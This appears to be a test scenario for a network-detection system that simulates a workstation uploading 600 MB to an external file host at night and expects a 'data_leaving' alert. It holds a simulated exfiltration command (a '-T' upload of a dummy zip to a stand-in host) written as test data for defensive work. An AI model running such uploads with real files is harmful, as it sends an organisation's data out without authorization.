# what: a PC sends 600 MB to a file host outside at night (twin: nightly_backup)
# real: curl -T, nginx over TLS; stored without payload, lengths are true (large frames, as cards that segment show them)
# packages: nginx-light
# snap: 2000
CLOCK='2026-01-15 02:40'
outside 89.44.169.135 upload.filehost-mega.example; web net 89.44.169.135 upload.filehost-mega.example
host EIGYO-NOTE windows
for n in EIGYO-NOTE gw net; do on $n ethtool -K eth0 tx on tso on gso on gro on >/dev/null 2>&1; on $n ethtool -K wan tx on tso on gso on gro on >/dev/null 2>&1; on $n sysctl -qw net.ipv4.tcp_timestamps=0; done
head -c 600000000 /dev/zero >$W/all.zip
get EIGYO-NOTE -A 'rclone/v1.68.1' -m 120 -T $W/all.zip https://upload.filehost-mega.example/all.zip || fail "the upload failed"
STRETCH=(--keep 6000 --thin 24 --merge)
alert data_leaving please_look EIGYO-NOTE
